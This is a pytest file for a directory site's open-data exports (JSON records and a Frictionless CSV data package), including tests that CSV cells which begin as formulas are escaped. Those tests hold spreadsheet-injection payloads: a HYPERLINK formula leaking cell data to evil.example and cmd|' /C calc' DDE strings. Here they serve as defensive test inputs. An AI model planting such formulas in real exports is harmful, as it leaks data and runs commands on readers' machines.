"""The open data (issue 13): each record as JSON beside its page, and the
Frictionless data package of CSV tables, as the build writes them."""
from __future__ import annotations

import csv
import json
import posixpath
import shutil

import frictionless
import pytest

from directory import site
from directory.exports import public_view
from directory.exports.package import FORMULA_STARTS, TABLES, spreadsheet_text
from directory.validate import validate
from support import DATA, FIXTURES, values

HOSTILE = FIXTURES / "hostile"
# the commented-out confidential contact of tests/fixtures/hostile/contacts.yaml
CONFIDENTIAL = ["hostile-confidential", "Verborgen", "Vertrouwelijk", "geheim.example", "111 22 33", "1112233"]


@pytest.fixture(scope="module", params=["data", "hostile"])
def built(request, tmp_path_factory):
    folder = DATA if request.param == "data" else HOSTILE
    result = site.build(folder)
    assert result.ok, [p.format() for p in result.problems]
    out = tmp_path_factory.mktemp(request.param)
    site.write(result.files, out)
    return folder, result, out


def rows(out, name):
    with open(out / "data" / f"{name}.csv", encoding="utf-8", newline="") as f:
        return list(csv.DictReader(f))


def errors(report: frictionless.Report) -> list[str]:
    return [f"{task.name}: {e.message}" for task in report.tasks for e in task.errors] + \
        [e.message for e in report.errors]


def test_the_data_package_is_valid(built):
    _, _, out = built
    report = frictionless.validate(str(out / "data" / "datapackage.json"))
    assert errors(report) == []
    assert report.valid


def test_the_package_describes_every_table_with_types_enums_and_keys(built):
    folder, result, out = built
    package = json.loads((out / "data" / "datapackage.json").read_text("utf-8"))
    names = [r["name"] for r in package["resources"]]
    assert {"programmes", "organisations", "programme_organisations", "contacts", "sources",
            "programme_themes"} <= set(names)
    assert sorted(p.name for p in (out / "data").glob("*.csv")) == sorted(f"{n}.csv" for n in names)
    resources = {r["name"]: r for r in package["resources"]}
    fields = {f["name"]: f for f in resources["programmes"]["schema"]["fields"]}
    vocab = validate(folder).context.vocab
    assert fields["kind"]["constraints"] == {"required": True, "enum": list(vocab["kinds"])}
    assert fields["last_reviewed"]["type"] == "date"
    assert fields["age_min"]["type"] == "number"
    themes = {f["name"]: f for f in resources["programme_themes"]["schema"]["fields"]}
    assert themes["theme"]["constraints"]["enum"] == list(vocab["themes"])
    assert {"fields": "programme", "reference": {"resource": "programmes", "fields": "id"}} in \
        resources["programme_themes"]["schema"]["foreignKeys"]
    assert all(r["encoding"] == "utf-8" for r in package["resources"])


def test_a_broken_package_fails_validation(built, tmp_path):
    """The validation catches a reference to a programme that is not there and a term outside its vocabulary."""
    _, _, out = built
    data = tmp_path / "data"
    data.mkdir()
    for path in (out / "data").iterdir():
        if path.suffix in (".csv", ".json"):
            (data / path.name).write_bytes(path.read_bytes())
    table = (data / "programme_themes.csv").read_text("utf-8")
    first = json.loads((data / "datapackage.json").read_text("utf-8"))
    assert first
    (data / "programme_themes.csv").write_text(table + "no-such-programme,no-such-theme\r\n", "utf-8")
    found = errors(frictionless.validate(str(data / "datapackage.json")))
    assert any("programme_themes" in e and "no-such-theme" in e for e in found), found
    assert any("programme_themes" in e and "no-such-programme" in e for e in found), found


def test_programmes_csv_is_one_programme_a_row_with_names_intact(built):
    folder, result, out = built
    table = rows(out, "programmes")
    assert [r["id"] for r in table] == sorted(result.directory.programmes)
    for r in table:
        p = result.directory.programmes[r["id"]]
        assert r["name"] == p.name.source
        assert r["name_en"] == (p.name.en or "")
        assert r["page"] == f"../programmes/{p.id}/"
    themes = rows(out, "programme_themes")
    assert [(r["programme"], r["theme"]) for r in themes] == [
        (p, t) for p in sorted(result.directory.programmes) for t in result.directory.programmes[p].themes]


def test_names_keep_their_letters():
    result = site.build(DATA)
    text = result.files["data/organisations.csv"] + result.files["data/programmes.csv"] + \
        result.files["data/sources.csv"] + result.files["data/texts.csv"]
    for letters in ("ø", "æ", "ë"):
        assert letters in text
    assert "pilootproject geëvalueerd" in result.files["data/texts.csv"]
    assert "Tæt støttede opstartsforløb" in result.files["data/sources.csv"]


def test_each_record_has_its_json_beside_its_page(built):
    folder, result, out = built
    view = public_view(validate(folder).context)
    for key, folder_name in (("programmes", "programmes"), ("organisations", "organisations"),
                             ("contacts", "contacts"), ("sources", "sources")):
        for record in view[key]:
            path = f"{folder_name}/{record['id']}.json"
            data = json.loads(result.files[path])
            assert data["record"] == record
            assert data["id"] == record["id"]
            page = posixpath.normpath(posixpath.join(folder_name, data["page"].partition("#")[0]))
            assert (out / page / "index.md").is_file() or (out / page.rstrip("/") / "index.md").is_file() \
                or (out / f"{page}.md").is_file(), (path, data["page"])
            for type_, refs in data["references"].items():
                for ref_id, ref in refs.items():
                    target = posixpath.normpath(posixpath.join(folder_name, ref["data"]))
                    assert json.loads((out / target).read_text("utf-8"))["id"] == ref_id


def test_a_programme_json_resolves_its_references():
    result = site.build(DATA)
    data = json.loads(result.files["programmes/opgroeien-kleinschalig-verblijf-0-3.json"])
    assert data["page"] == "opgroeien-kleinschalig-verblijf-0-3/"
    assert data["schema"] == "../schema/directory.schema.json"
    assert data["record"]["last_reviewed"] == "2026-11-23"
    assert data["references"]["organisation"]["opgroeien"] == {
        "name": {"nl": "Opgroeien"}, "page": "../organisations/opgroeien/", "data": "../organisations/opgroeien.json"}
    assert data["references"]["source"]["opgroeien-jonge-kind"] == {
        "name": "Jonge kind", "page": "../sources/#opgroeien-jonge-kind", "data": "../sources/opgroeien-jonge-kind.json"}


def test_record_pages_link_to_their_json(built):
    _, result, _ = built
    d = result.directory
    for folder, records in (("programmes", d.programmes), ("organisations", d.organisations),
                            ("contacts", d.contacts)):
        for record_id in records:
            page = result.files[f"{folder}/{record_id}.md"]
            assert f"Data: [JSON]({record_id}.json)\n{{: .record-data }}" in page


def test_no_export_holds_anything_confidential():
    result = site.build(HOSTILE)
    exports = {path: content for path, content in result.files.items()
               if path.endswith((".json", ".csv")) and not path.startswith("schema/")}
    assert any(p.endswith(".csv") for p in exports) and "contacts/hostile-contact-title.json" in exports
    for path, content in exports.items():
        text = content if isinstance(content, str) else content.decode("utf-8")
        for word in CONFIDENTIAL:
            assert word.lower() not in text.lower(), (path, word)
        assert '"confidential"' not in text and "confidential," not in text, path


def test_every_table_column_is_described():
    for table in TABLES:
        assert table.columns and all(c.description for c in table.columns), table.name


# -- a text that a spreadsheet would run is written as text -------------------------------

@pytest.mark.parametrize("text, cell", [
    ("=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")", "'=HYPERLINK(\"https://evil.example/?\"&A1,\"x\")"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("- a Markdown list item", "'- a Markdown list item"),
    ("Gezin = sterk", "Gezin = sterk"),  # only the first character counts
    ("Tæt støttede opstartsforløb", "Tæt støttede opstartsforløb"),
    ("", ""),
])
def test_a_text_cell_that_begins_as_a_formula_gets_an_apostrophe(text, cell):
    assert spreadsheet_text(text) == cell


def _free_text_columns(out) -> dict[str, list[str]]:
    package = json.loads((out / "data" / "datapackage.json").read_text("utf-8"))
    return {r["name"]: [f["name"] for f in r["schema"]["fields"]
                        if f["type"] == "string" and not {"pattern", "enum"} & set(f.get("constraints", {}))]
            for r in package["resources"]}


def test_no_free_text_cell_of_any_table_begins_as_a_formula(built):
    _, _, out = built
    package = json.loads((out / "data" / "datapackage.json").read_text("utf-8"))
    assert "apostrophe" in package["description"]
    seen = 0
    for name, columns in _free_text_columns(out).items():
        for row in rows(out, name):
            for column in columns:
                seen += 1
                assert not row[column].startswith(FORMULA_STARTS), (name, column, row[column][:40])
    assert seen > 100


def test_a_planted_formula_reaches_the_tables_as_text_and_the_json_exactly(tmp_path):
    """A programme whose name and description begin as formulas: its CSV
    cells begin with the apostrophe (and the package stays valid), its JSON
    keeps the texts exactly."""
    data = tmp_path / "data"
    shutil.copytree(DATA, data)
    formula = '=HYPERLINK("https://evil.example/?leak="&A2,"Open")'
    text = (data / "programmes.yaml").read_text("utf-8")
    old = "      nl: Kleinschalig verblijf in familiale setting voor allerjongsten\n"
    assert old in text
    text = text.replace(old, f"      nl: '{formula}'\n", 1)
    old = "      nl: |\n        In 2019 treedt een nieuwe verblijfsvorm"
    assert old in text
    text = text.replace(old, "      nl: |\n        - In 2019 treedt een nieuwe verblijfsvorm", 1)
    (data / "programmes.yaml").write_text(text, "utf-8")
    result = site.build(data)
    assert result.ok, [p.format() for p in result.problems]
    out = tmp_path / "site"
    site.write(result.files, out)
    programme = next(r for r in rows(out, "programmes") if r["id"] == "opgroeien-kleinschalig-verblijf-0-3")
    assert programme["name"] == "'" + formula
    described = [r for r in rows(out, "texts") if r["record_id"] == "opgroeien-kleinschalig-verblijf-0-3"
                 and r["field"] == "description" and r["language"] == "nl"]
    assert described[0]["text"].startswith("'- In 2019")
    record = json.loads((out / "programmes" / "opgroeien-kleinschalig-verblijf-0-3.json").read_text("utf-8"))
    strings = [v for v in values(record) if isinstance(v, str)]
    assert formula in strings and not any(s.startswith("'=") for s in strings)
    assert any(s.startswith("- In 2019") for s in strings)
    assert errors(frictionless.validate(str(out / "data" / "datapackage.json"))) == []
